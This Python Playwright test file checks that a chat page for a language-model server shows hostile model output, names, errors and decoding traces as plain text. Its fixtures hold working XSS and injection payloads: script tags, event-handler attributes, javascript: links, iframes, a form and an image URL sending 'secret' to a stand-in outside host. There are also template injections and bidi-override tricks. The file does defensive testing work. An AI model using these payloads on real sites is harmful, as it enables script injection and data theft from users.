"""The page shows what a hostile model says, and its hostile name, as text. Nothing runs, nothing is fetched.

A real engine generates the hostile text token by token, so that it reaches the page in answers, traces and
statistics: a regular expression for it is added to the page's requests.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import partial
from typing import TYPE_CHECKING, Any

import engines
import pytest
from serving import Running, serving
from slow import mostly_slow
from staging import streamed
from watching import Watched

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

NAME = '"><script>window.hit = 1</script><img src=x onerror="window.hit = 1">\u202e' + "long" * 500

ELSEWHERE = "https://elsewhere.example"

SAID = {
    "script": "<script>window.hit = 1</script><script src=//elsewhere.example/x.js></script>",
    "handlers": "<img src=x onerror='window.hit = 1'><svg/onload=window.hit=1><details open ontoggle=hit=1>",
    "frames": f'<iframe src="{ELSEWHERE}" srcdoc="<script>top.hit = 1</script>"></iframe><object data=x>',
    "styles": f"<style>@import url({ELSEWHERE}); * {{ display: none }}</style><link rel=stylesheet href=x>",
    "documents": f'</div></body><base href="{ELSEWHERE}"><meta http-equiv=refresh content="0;{ELSEWHERE}">',
    "forms": f'<form action="{ELSEWHERE}"><input autofocus onfocus="hit = 1"><button>Send</button></form>',
    "entities": "&lt;script&gt;window.hit = 1&lt;/script&gt; &#60;img src=x onerror=hit=1&#62;",
    "links": "[click](javascript:window.hit=1) <javascript:hit=1> [x]: data:text/html,<script>hit=1</script>",
    "images": f"![x]({ELSEWHERE}/leak.png?q=secret) ![y](x 'onerror=window.hit=1')",
    "tables": "| a | b |\n|---|---|\n| <b>1</b> | [x](javascript:hit=1) |\n# Title\n* * *\n",
    "fences": "```html\n<script>window.hit = 1</script>\n~~~\n<img src=x onerror=hit=1>",
    "templates": "${window.hit = 1} {{constructor.constructor('hit = 1')()}} <%= 1 %> `${hit}`",
    "terminals": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x08\x08\x7f\x0b\x0c end",
    "bidi": "\u202egnp.exe \u2067\u2066a\u2069\u202d b \u200f\u061c\u2028next\u2029line\u0085end",
    "events": 'data: {"choices": []}\n\ndata: [DONE]\n\nevent: x\n',
    "zalgo": "a" + "\u0301" * 100 + "b",
    "long lines": "W" * 400,
}
"""What the model says."""


@pytest.fixture(scope="module")
def hostile(browser: Browser) -> Iterator[Running]:
    """A server whose model has a hostile name."""
    with serving(partial(engines.sibyl, drafter="suffix > mtp"), name=NAME) as one:
        yield one


@pytest.fixture
def visited(browser: Browser, hostile: Running) -> Iterator[Watched]:
    """The page. At the end of a test, nothing has run or was asked of others, and the page is as it was."""
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    page.set_default_timeout(20_000)
    watched = Watched(page, f"{hostile.url}/")
    page.on("dialog", lambda dialog: watched.said.append(dialog.message))
    page.on("popup", lambda popup: watched.said.append(popup.url))
    watched.open()
    before = tags(page)
    yield watched
    assert page.evaluate("window.hit") is None
    assert page.url == watched.url
    assert tags(page) == before
    assert watched.said == []
    assert all(url.startswith(watched.url) for url in watched.asked)
    page.close()


def tags(page: Page) -> dict[str, int]:
    """Number of elements of each kind that could run or load something."""
    kinds = ["script", "img", "iframe", "object", "embed", "style", "link", "base", "meta", "form", "a"]
    count = "(kinds) => kinds.map((kind) => [kind, document.querySelectorAll(kind).length])"
    return dict(page.evaluate(count, kinds))


def let_say(page: Page, text: str) -> None:
    """Let the model say a text, whatever it is asked."""

    pattern = "".join(one if one.isalnum() else f"\\x{{{ord(one):x}}}" for one in text)

    def force(route: Route) -> None:
        body = {**route.request.post_data_json, "structured_outputs": {"regex": pattern}, "max_tokens": 1900}
        route.continue_(post_data=json.dumps(body))

    page.unroute("**/v1/chat/completions")
    page.route("**/v1/chat/completions", force)


def fits(page: Page) -> bool:
    """Whether nothing is wider than the window, and a message can be sent."""
    page.locator("#send").click(trial=True)
    inside = """() => {
        const wide = [document.scrollingElement, document.getElementById("turns")]
            .filter((one) => one.scrollWidth > one.clientWidth);
        const { left, right, top, bottom } = document.getElementById("send").getBoundingClientRect();
        return !wide.length && left >= 0 && top >= 0 && right <= innerWidth && bottom <= innerHeight;
    }"""
    return bool(page.evaluate(inside))


def last_said(page: Page) -> str:
    return page.evaluate("[...document.querySelectorAll('.said')].at(-1).textContent")


@pytest.mark.parametrize("text", mostly_slow(SAID.values(), 4), ids=SAID)
def test_what_a_hostile_model_says_is_text(visited: Watched, text: str) -> None:
    page = visited.page
    let_say(page, text)
    visited.ask("Say it.")
    assert last_said(page) == text
    assert fits(page)
    page.locator(".tokens").focus()
    for key in ("End", "Home", "ArrowRight"):  # tokens in the tip, in the tree and in the announcer
        page.keyboard.press(key)
        assert page.locator("#tip").evaluate("(tip) => tip.querySelectorAll(':scope > * *').length") == 0
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Compare with plain decoding").click()
    page.wait_for_selector(".good")
    visited.ask(text)  # the text comes back as a question, and goes to the server as a message
    assert page.locator(".question p").last.evaluate("(said) => said.textContent") == text.strip()
    assert last_said(page) == text
    assert fits(page)


def test_a_difference_is_shown_as_text(visited: Watched) -> None:
    page = visited.page
    let_say(page, SAID["handlers"])
    visited.ask("Say it.")
    let_say(page, SAID["handlers"].replace("window.hit", "\u202ewindow.hit"))
    page.get_by_role("button", name="Compare with plain decoding").click()
    page.wait_for_selector(".bad")
    assert "<img src=x onerror='" in page.locator(".bad").inner_text()
    isolated = "(all) => all.map((one) => getComputedStyle(one).unicodeBidi)"
    assert page.locator(".bad q").evaluate_all(isolated) == ["isolate", "isolate"]


def test_a_hostile_name_is_text(visited: Watched) -> None:
    page = visited.page
    assert page.locator("#model").evaluate("(name) => name.textContent") == NAME
    assert page.title().startswith(NAME[:60])
    let_say(page, "Hello.")
    visited.ask("Who are you?")
    assert page.locator(".answer h3").evaluate("(name) => name.textContent") == NAME
    assert page.locator(".answer h3").evaluate("(name) => name.clientHeight") < 60
    assert fits(page)
    page.wait_for_selector('[data-chart="Tokens a step"] .line[d^=M]', state="attached")  # metrics are read
    page.set_viewport_size({"width": 360, "height": 740})
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 360
    assert page.locator("#status").evaluate("(state) => state.getBoundingClientRect().right") <= 360


@pytest.mark.parametrize("text", [SAID["script"], SAID["handlers"], "\u202e" + "x" * 3000], ids=range(3))
def test_hostile_errors_are_text(visited: Watched, text: str) -> None:
    page = visited.page
    reply = {"error": {"message": text, "code": "x"}}
    page.route("**/v1/chat/completions", lambda route: route.fulfill(status=418, json=reply))
    page.fill("#message", "Hi")
    page.press("#message", "Enter")
    said = page.locator(".problem strong").evaluate("(said) => said.textContent")
    assert said.strip() == f"{text}."
    assert fits(page)
    assert "418" in visited.said.pop()  # the browser notes the status on the console


def test_hostile_drafters_and_tokens_are_text(visited: Watched) -> None:
    """A trace that no real engine sends: markup in names of drafters, and trees with long tokens."""
    page = visited.page
    evil = SAID["handlers"]
    step = {
        "tokens": [evil, "x" * 3000, "\u202e\x1b[2J"],
        "parents": [-1, 0, 0],
        "drafters": [None, evil, "y" * 3000],
        "accepted": [1],
        "bonus": evil,
    }
    choice = {"index": 0, "delta": {"content": "x" * 3000 + evil}, "speculation": {"steps": [step]}}
    chunks = [{"choices": [choice]}, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]
    page.route("**/v1/chat/completions", lambda route: route.fulfill(**streamed(chunks)))
    visited.ask("Say it.")
    assert last_said(page) == "x" * 3000 + evil
    page.wait_for_selector("#tree-drawing .node.accepted")
    assert page.locator("#tree-drawing .node").count() == 4
    assert page.locator(".legend .sample").first.evaluate("(name) => name.textContent") == evil
    page.locator("#tree-drawing .node.accepted rect").hover()
    box: Any = page.locator("#tip").bounding_box()
    assert 0 <= box["x"] < box["x"] + box["width"] <= 1280
    assert page.locator("#tip span").first.inner_text().startswith("drafted by")
    assert page.locator("#tip").evaluate("(tip) => tip.scrollWidth <= tip.clientWidth")
    assert fits(page)
